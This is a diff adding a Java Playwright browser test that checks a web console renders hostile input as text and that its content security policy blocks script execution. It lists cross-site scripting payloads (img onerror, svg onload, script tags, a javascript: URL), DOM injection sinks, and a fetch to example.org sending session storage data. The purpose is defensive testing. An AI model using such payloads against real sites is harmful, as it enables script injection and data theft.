@@ -1,0 +1,135 @@
+package dev.baton.console.browser;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.microsoft.playwright.Browser;
+import dev.baton.console.scripted.ScriptedServer;
+import dev.baton.console.scripted.Story;
+import java.util.List;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Whatever an id, a payload or a header holds is text, and the browser runs nothing of it. */
+@InChromium
+class HostileTextIT {
+
+  private static String policy = "";
+
+  private ScriptedServer server = new ScriptedServer(Story.ofFive(), policy);
+
+  @BeforeAll
+  static void ask() {
+    policy = Policy.asServed();
+  }
+
+  @AfterAll
+  static void forget() {
+    policy = "";
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<img src=x onerror=\"window.broken=1\"><script>window.broken=1</script>",
+        "\"'`}</title></textarea><svg onload=window.broken=1> ${window.broken=1} {{1+1}}",
+        "javascript:window.broken=1//\u202egnp.\u0000\u001b[31m"
+      })
+  void everyFieldOfEveryScreenShowsItAsText(String mark, Browser browser) {
+    Story story = Story.marked(mark);
+    server.tell(story);
+    try (Tab tab = Tab.open(browser).go(server.url())) {
+      assertThat(tab.find("table.groups tbody th a >> nth=1"))
+          .containsText("mail" + mark.substring(0, 12));
+      List<String> shown =
+          List.of(
+              "relay/" + encoded(story.group()) + "?call=" + encoded(story.handedOver()),
+              ".panel .attempts",
+              "call/" + encoded(story.handedOver()),
+              ".waterfall tbody tr >> nth=3",
+              "calls",
+              ".calls-table tbody tr >> nth=13",
+              "people",
+              ".questions > li >> nth=1",
+              "schedules",
+              "table.cards tbody tr >> nth=1",
+              "new?from=" + encoded(story.handedOver()),
+              "form.form textarea");
+      for (int i = 0; i < shown.size(); i += 2) {
+        tab.turnTo(shown.get(i));
+        assertThat(tab.find(shown.get(i + 1)).first()).isVisible();
+        assertThat(tab.page.evaluate("window.broken")).isNull();
+        assertThat(tab.find("main img, main script, main svg[onload], main b b")).hasCount(0);
+        assertThat(
+                tab.page.evaluate(
+                    "[...document.querySelectorAll('main a, nav a')].every(a =>"
+                        + " a.getAttribute('href').startsWith('#/'))"))
+            .isEqualTo(true);
+      }
+      tab.turnTo("call/" + encoded(story.handedOver()));
+      assertThat(tab.find(".call h1")).containsText("order-7");
+      tab.picture("hostile-call");
+      tab.assertNothingToComplainOf();
+    } finally {
+      server.close();
+    }
+  }
+
+  @Test
+  void aPageThatTriesToBreakThePolicyCannot(Browser browser) {
+    try (Tab tab = Tab.open(browser).go(server.url())) {
+      assertThat(tab.find("table.groups")).isVisible();
+      // As if somebody had found a way to run a line in the page.
+      List<String> tries =
+          List.of(
+              "document.body.innerHTML = '<img src=x onerror=window.broken=1>'",
+              "document.write('<script>window.broken=1</script>')",
+              "eval('window.broken=1')",
+              "new Function('window.broken=1')()",
+              "setTimeout('window.broken=1', 0)",
+              "trustedTypes.createPolicy('mine', {createHTML: s => s})",
+              "document.createElement('script').text = 'window.broken=1'",
+              "document.createElement('script').src = 'data:text/javascript,window.broken=1'");
+      for (String line : tries) {
+        assertThat(
+                tab.page.evaluate(
+                    // Later: while the debugger evaluates, it is above the policy.
+                    "new Promise(done => setTimeout(() => {"
+                        + " try { %s; done('done'); } catch (e) { done(e.name); } }))"
+                            .formatted(line)))
+            .as(line)
+            .isIn("TypeError", "EvalError");
+      }
+      assertThat(
+              tab.page.evaluate(
+                  "fetch('https://example.org/?' + sessionStorage.length).then(() => 'sent', e =>"
+                      + " e.name)"))
+          .isEqualTo("TypeError");
+      assertThat(
+              tab.page.evaluate(
+                  "new Promise(done => { addEventListener('securitypolicyviolation', e =>"
+                      + " done(e.effectiveDirective)); const i = new Image(); i.src ="
+                      + " 'https://example.org/x.png'; })"))
+          .isEqualTo("img-src");
+      assertThat(
+              tab.page.evaluate(
+                  "new Promise(done => { addEventListener('securitypolicyviolation', e =>"
+                      + " done(e.effectiveDirective)); const f = document.createElement('form');"
+                      + " f.action = 'https://example.org/'; document.body.append(f); f.submit();"
+                      + " })"))
+          .isEqualTo("form-action");
+      assertThat(tab.page.evaluate("window.broken")).isNull();
+      assertThat(tab.complaints()).isNotEmpty();
+    } finally {
+      server.close();
+    }
+  }
+
+  private static String encoded(String text) {
+    return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8)
+        .replace("+", "%20");
+  }
+}
